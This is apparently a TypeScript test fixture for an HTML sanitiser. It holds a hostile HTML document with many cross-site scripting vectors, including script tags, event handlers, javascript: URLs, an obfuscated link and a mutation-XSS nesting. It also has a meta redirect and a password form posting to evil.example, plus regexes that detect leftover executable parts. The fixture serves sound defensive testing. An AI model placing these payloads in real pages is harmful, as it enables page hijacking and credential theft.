/**
 * A hostile "analysis": a whole HTML document carrying the usual ways to run script or take over a page.
 * Used by the server tests (what is stored) and the browser test (what is rendered). The visible text
 * "Foot traffic is strong" must survive sanitising; every marker `pwned` must not run.
 */
export const HOSTILE_ANALYSIS_HTML = `<!DOCTYPE html>
<html>
<head>
  <title>Stolen title</title>
  <meta http-equiv="refresh" content="0;url=https://evil.example/">
  <style>body { display: none }</style>
  <script>window.pwned = 'head-script'; alert('pwned')</script>
</head>
<body onload="window.pwned = 'body-onload'">
  <h1>Coffee shop report <img src="x" onerror="window.pwned = 'img-onerror'; alert('pwned')"></h1>
  <p onclick="window.pwned = 'click'">Foot traffic is strong near the station.</p>
  <script>window.pwned = 'body-script'; alert('pwned')</script>
  <a id="js-link" href="javascript:window.pwned='link';alert('pwned')">Open details</a>
  <a id="js-link-obfuscated" href=" JaVaScRiPt:alert('pwned')">More</a>
  <a id="safe-link" href="https://data.census.gov/">Census data</a>
  <iframe src="javascript:alert('pwned')"></iframe>
  <form action="https://evil.example/steal"><input name="password"><button>Sign in again</button></form>
  <svg><script>alert('pwned')</script><circle r="4" onload="alert('pwned')"></circle></svg>
  <object data="https://evil.example/x.swf"></object>
  <div style="position:fixed;inset:0;background:url(javascript:alert('pwned'))">overlay</div>
  <math><mtext><table><mglyph><style><img src=x onerror="alert('pwned')"></style></mglyph></table></mtext></math>
</body>
</html>`;

/** Asserts nothing executable from {@link HOSTILE_ANALYSIS_HTML} is left in a piece of HTML text. */
export function executableParts(html: string): string[] {
  const found: string[] = [];
  if (/<script/i.test(html)) found.push('script element');
  if (/\son[a-z]+\s*=/i.test(html)) found.push('event-handler attribute');
  if (/javascript:/i.test(html)) found.push('javascript: URL');
  if (/<(iframe|form|object|embed|meta|style|input|button)\b/i.test(html)) found.push('frame, form, meta or style');
  if (/\sstyle\s*=/i.test(html)) found.push('style attribute');
  if (/Stolen title/.test(html)) found.push('head content');
  return found;
}
